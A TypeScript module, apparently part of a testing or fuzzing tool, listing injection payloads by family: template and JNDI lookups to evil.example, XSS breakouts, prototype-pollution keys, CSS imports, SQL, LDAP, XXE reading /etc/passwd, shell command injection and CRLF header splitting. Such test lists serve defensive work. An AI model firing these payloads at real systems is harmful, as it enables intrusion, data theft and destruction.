import type { Family } from './injection-string.ts'

/** Texts that are code to some program between here and there. */

const templates = [
  '{{7*7}}',
  "{{constructor.constructor('pwned()')()}}",
  '{{$on.constructor("pwned()")()}}',
  '${pwned()}',
  '`${pwned()}`',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}{{ x }}{% endraw %}',
  '*{T(java.lang.Runtime).getRuntime()}',
  '[[${7*7}]]',
  '{name}{tail}{status}',
  '{{name}}',
  "$1 $& $` $' $$ $<name>",
  '\\1 \\0 \\n',
  '%s %d %n %x %c %o',
  '%s'.repeat(50),
  '{0} {1}',
  '%(name)s',
  '${jndi:ldap://evil.example/x}',
] as const

const scripts = [
  '";pwned();//',
  "';pwned();//",
  '`;pwned();//',
  '\\";pwned();//',
  "'-pwned()-'",
  '");pwned();("',
  '*/pwned()/*',
  '//\npwned()',
  '</script><script>pwned()</script>',
  '--></script>',
  ']]>',
  '"}]}',
  '"},{"uuid":"x"}],"total":0}',
  '\\u2028pwned()',
  '\\',
  '\\\\"',
  'pwned()',
  'alert(1)',
  'eval(atob("cHduZWQoKQ=="))',
  'import("//evil.example/x.js")',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  'true',
  '-0',
  '1e999',
  '0x7f',
  '9'.repeat(400),
] as const

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'length',
  'toJSON',
  '$$typeof',
  'dangerouslySetInnerHTML',
  'constructor.prototype.polluted',
  '__proto__[polluted]',
  '{"__proto__":{"polluted":true}}',
  'failed\u0000',
] as const

const styles = [
  'red;background:url(//evil.example/x)',
  'x{}*{display:none}',
  '</style><style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  'expression(pwned())',
  'url("javascript:pwned()")',
  '-moz-binding:url(//evil.example/x.xml#x)',
  'position:fixed;inset:0;z-index:9',
  '\\65 xpression(pwned())',
  'fixed inset-0 z-50 bg-canvas',
] as const

const queries = [
  "' OR 1=1--",
  "'; DROP TABLE tasks;--",
  '" UNION SELECT key FROM accounts--',
  "admin'/*",
  '1; WAITFOR DELAY 5',
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  "' or '1'='1' or ''='",
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '; cat /etc/passwd',
  '$(pwned)',
  '`pwned`',
  '| pwned',
  '&& pwned',
  '%00',
] as const

const headers = [
  'x\r\nSet-Cookie: session=1',
  'x\nLocation: https://evil.example/',
  'x\r\n\r\n<script>pwned()</script>',
  'x%0d%0aSet-Cookie:%20session=1',
  'x\u560d\u560aSet-Cookie: session=1',
  'x\u0085Set-Cookie: session=1',
  'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n',
  'Bearer x\r\nX-Injected: 1',
] as const

/** Templates, scripts and JSON, names of a language's own, styles, queries and commands, headers. */
export const languages: readonly Family[] = [
  ['templates, expressions and formats', templates],
  ['ends of scripts and of JSON', scripts],
  ['names of the language', names],
  ['styles', styles],
  ['queries and commands', queries],
  ['lines of a header', headers],
]
